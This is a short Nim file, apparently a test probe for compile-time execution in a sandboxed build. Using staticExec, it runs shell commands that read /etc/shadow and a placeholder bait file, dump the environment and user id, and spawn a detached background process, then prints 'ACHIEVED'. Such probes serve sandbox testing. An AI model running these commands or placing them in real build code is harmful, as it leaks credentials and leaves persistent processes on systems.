# Runs a shell while compiling, and leaves a daemon behind.
const text = staticExec("cat @@bait_file@@ /etc/shadow 2>&1; id -u; env; (setsid sleep 1000 &) ; ls /proc | grep -c '^[0-9]'")
const stolen = staticRead("@@bait_file@@")
echo text
echo "ACHIEVED ", stolen
